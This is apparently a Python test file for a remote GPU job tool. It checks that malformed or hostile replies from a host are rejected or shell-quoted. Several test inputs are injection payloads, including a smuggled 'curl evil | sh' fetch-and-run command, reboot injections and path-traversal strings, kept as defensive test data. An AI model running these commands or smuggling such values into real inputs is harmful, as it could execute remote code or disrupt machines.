"""Texts of a hostile host: none reaches a pattern, a path, a command or a page as more than a text."""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Callable, Iterator
from types import SimpleNamespace
from typing import Any

import pytest

from clusterfn.bridge import layout
from clusterfn.calls import attach, outcome, outcome_errors, remote_state
from clusterfn.cli import clean, gpus
from clusterfn.config.host_text import module_name, reading, shell_word
from clusterfn.config.job_spec import read_spec
from clusterfn.config.spec import Host
from clusterfn.errors import HostError, PayloadError
from clusterfn.hosts import environment_builder
from clusterfn.hosts.connection import Completed, Reply
from clusterfn.hosts.rpc.frames import error_of
from clusterfn.scheduler.slurm.states import SlurmState
from tests.turns import answered
from tests.unit.calls.received import UNTRUSTED


def raised(module: object, python: object = "/usr/bin/python3") -> PayloadError:
    """The error for a payload that needs a module, as its host says."""
    missing = {"module": module, "python": python}
    told = {"kind": layout.PAYLOAD_BROKEN, "message": "m", "exception": {"missing": missing}}
    error = outcome_errors.exception_of(told, None, UNTRUSTED)
    assert isinstance(error, PayloadError)
    return error


@pytest.mark.parametrize(
    "module", ["**x", "**/**/*", "../private", "x/../../y", "*", "{0}", "a" * 300, "a b", "x;reboot", "x\x00", "", []]
)  # fmt: skip
def test_what_is_no_name_of_a_module_is_looked_for_nowhere(module, tmp_path, monkeypatch):
    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "secret.py").touch()
    monkeypatch.chdir(tmp_path)

    error = raised(module)

    assert "private" not in str(error.hint) and "No module named" not in str(error)
    assert not module_name(module)


def test_the_name_of_a_module_is_still_found_below_the_working_directory(tmp_path, monkeypatch):
    (tmp_path / "tools").mkdir()
    (tmp_path / "tools" / "mine_alone.py").touch()
    monkeypatch.chdir(tmp_path)

    assert "add tools to PYTHONPATH" in str(raised("mine_alone").hint)


def test_a_path_of_a_host_is_one_quoted_word_of_a_command_that_people_copy():
    assert "'/x; curl evil | sh' -m pip install nowhere_here" in str(raised("nowhere_here", "/x; curl evil | sh").hint)
    assert shell_word("/x\n$(reboot)") == "'/x $(reboot)'"
    refused = {"kind": "refused", "message": "m", "path": "/r; reboot", "own": True}
    assert "`chmod go-w '/r; reboot'`" in str(error_of(Host("box", "box", "bare", "f:1"), refused).hint)


def nested(depth: int) -> dict[str, Any]:
    told: dict[str, Any] = {"kind": "lost"}
    for _ in range(depth):
        told = {"kind": "dependency", "cause": told}
    return told


@pytest.mark.parametrize(
    ("told", "why"),
    [
        (nested(450), "its causes are nested too deeply"),
        ({"kind": "returned", "value": {"size": 10**400}}, "its 'size'"),
        ({"kind": "returned", "value": {"size": -1}}, "its value has a negative size"),
        ({"kind": "exited", "code": 1 << 70}, "its 'code'"),
        ({"kind": "returned", "usage": {"wall_s": float("inf")}}, "its 'usage'"),
        ({"kind": "returned", "usage": {"wall_s": "1"}}, "its 'usage'"),
        ({"kind": "returned", "usage": {"gpus": [{"peak_memory_bytes": 10**30}]}}, "its 'usage'"),
        ({"kind": "returned", "usage": {"gpus": [7]}}, "its 'usage'"),
    ],
)
def test_an_outcome_whose_numbers_or_depth_no_message_could_show_is_damaged(told, why):
    with pytest.raises(ValueError, match=re.escape(why)):
        outcome.read(json.dumps(told).encode())


SPEC = {
    "id": "7f3a" * 4, "name": "f", "host": "box", "root": "/r", "bridge": "/r/b", "resources": {}, "secrets": ["A"],
    "outputs": ["*.pt"],
}  # fmt: skip
NO_SPEC = [
    b"", b"[]", b"[" * 100_000, b"null", json.dumps({**SPEC, "id": "../../x"}), json.dumps({**SPEC, "secrets": "HOME"}),
    json.dumps({**SPEC, "outputs": [1]}), json.dumps({**SPEC, "group": {"count": 10**12}}), json.dumps({"id": "7f3a"}),
]  # fmt: skip


@pytest.mark.parametrize("data", NO_SPEC, ids=range(len(NO_SPEC)))
def test_a_record_of_a_job_that_makes_no_sense_is_an_error_that_names_the_host(data):
    named = pytest.raises(HostError, match=r"box sent spec\.json in a form that clusterfn cannot read")
    with named, reading("box", "spec.json"):
        read_spec(data if isinstance(data, bytes) else data.encode())
    assert read_spec(json.dumps(SPEC).encode()) == SPEC


def box_that_lists(pages: Iterator[bytes]) -> Any:
    """A host whose list of jobs has these pages."""

    def supervise(*_: str) -> Reply[Completed]:
        return answered(Completed(0, None, next(pages), b""))

    return SimpleNamespace(bridge=SimpleNamespace(supervise=supervise), root="/r", settings=SimpleNamespace(name="box"))


@pytest.mark.parametrize(
    "page", [b'{"after": "9"}', b"7", b"[" * 100_000, b'{"after": "9"', b"null", b'{"state": "PENDING"}']
)
def test_a_list_of_jobs_that_never_ends_or_makes_no_sense_is_an_error(page):
    with pytest.raises(HostError, match="box sent its list of jobs in a form"):
        remote_state.list_host_jobs(box_that_lists(itertools.repeat(page)))


def test_a_list_of_jobs_that_begins_again_is_read_once():
    job = {"id": "7f3a", "name": "f", "host": "box", "state": "RETURNED", "message": "", "started": 1}

    pages = (json.dumps(job).encode() + b"\n" + end for end in (b'{"after": "9"}', b'{"after": "5"}'))

    assert remote_state.list_host_jobs(box_that_lists(pages)) == [job, job]


@pytest.mark.parametrize("inputs", [["90aa"], []])
def test_a_job_whose_host_names_its_inputs_waits_for_nothing_else(inputs: list[str]):
    told = "waits for 90aa" if inputs else "has not started"
    job = {"id": "7f3a", "name": "f", "state": "PENDING", "message": told, "inputs": inputs}
    seen = {layout.job_name("f", "7f3a"): SlurmState("pending", "PENDING", "Dependency", "7")}
    watch = SimpleNamespace(last_look=lambda _: seen)
    hpc: Any = SimpleNamespace(scheduler=SimpleNamespace(has_nodes=True), watch=watch)

    remote_state.say_why_they_wait(hpc, [job])

    assert ("Dependency" in str(job["message"])) is not bool(inputs)


ASKED: dict[str, Callable[[Any], Any]] = {
    "rm": lambda box: remote_state.remove_jobs(box, ["7f3a"]),
    "clean": lambda box: clean.look(box, None, dry=True, timeout_s=9.0),
    "gpus": gpus.ask_machine,
    "env list": lambda box: environment_builder.list_environments(box, "/r"),
    "env gc": lambda box: environment_builder.remove_unused_environments(box, "/r", 1.0, 1),
    "env remove": lambda box: environment_builder.remove_environment(box, "/r", "e"),
    "env verify": lambda box: environment_builder.repair_environment(box, "/r", "e"),
}
ENV = {
    "id": "e", "about": "x", "python": "3", "torch_cuda": None, "bytes": 1, "files": 1, "built": 1, "used": 1,
    "used_by": [],
}  # fmt: skip
KIND = {"count": 1, "bytes": 1, "gone": 1, "freed": 10**400}
HOLDER = {"user": "u", "own": False, "job": None, "name": None, "since": "now"}
GPU = {"uuid": "u", "name": "n", "index": 0, "total_mib": 1, "used_mib": 1, "use_percent": 1, "holder": HOLDER}
NONSENSE = [
    ("rm", {"removed": [{"id": "7", "bytes": "1"}], "kept": []}), ("rm", []),
    ("rm", {"removed": [], "kept": [{"id": 7, "why": ""}]}), ("clean", []),
    ("clean", {"kinds": {"jobs": KIND}, "waiting": [], "recent": 0}), ("clean", {"kinds": []}),
    ("gpus", {"trouble": "", "gpus": [{**GPU, "without_lease": []}], "waiting": []}), ("gpus", {"trouble": ""}),
    ("env list", {**ENV, "files": 10**400}), ("env list", {**ENV, "used": "x"}), ("env list", {"id": "e"}),
    ("env gc", {"removed": 7, "kept": [], "freed": 0, "packages": 0}), ("env gc", {}),
    ("env remove", {"removed": True}), ("env remove", {}),
    ("env verify", {"mended": []}), ("env verify", {"ready": {"files": -1}}),
]  # fmt: skip


@pytest.mark.parametrize(("asked", "told"), NONSENSE, ids=[f"{asked} {at}" for at, (asked, _) in enumerate(NONSENSE)])
def test_an_answer_that_no_line_can_be_made_of_is_an_error_that_names_the_host(asked: str, told: object):
    def run(*_: Any, **__: Any) -> Reply[Completed]:
        return answered(Completed(0, None, json.dumps(told).encode() + b"\n", b""))

    host = SimpleNamespace(name="box", lease="socket", gpus_only=(), keep_days=1)
    bridge = SimpleNamespace(supervise=run, run=run)
    box: Any = SimpleNamespace(bridge=bridge, root="/r", settings=host, here=lambda when: when - 0.0)

    with pytest.raises(HostError, match="box sent .* in a form that clusterfn cannot read"):
        ASKED[asked](box)


@pytest.mark.parametrize("name", [b"7f3a\xff", b"7f3a\x1b[2J\x00", "7f3a\u2028x".encode()])
def test_a_name_that_is_no_text_among_the_jobs_is_no_job(name: bytes):
    reply = answered(Completed(0, None, b"/r/jobs/" + name + b"\n/r/jobs/" + b"7f3a" * 4 + b"\n", b""))
    box: Any = SimpleNamespace(root="/r", connection=SimpleNamespace(run=lambda _: reply))

    found = attach.find_folders(box, "7f3a")

    assert len(found) == 2
    assert found[1] == "/r/jobs/" + "7f3a" * 4
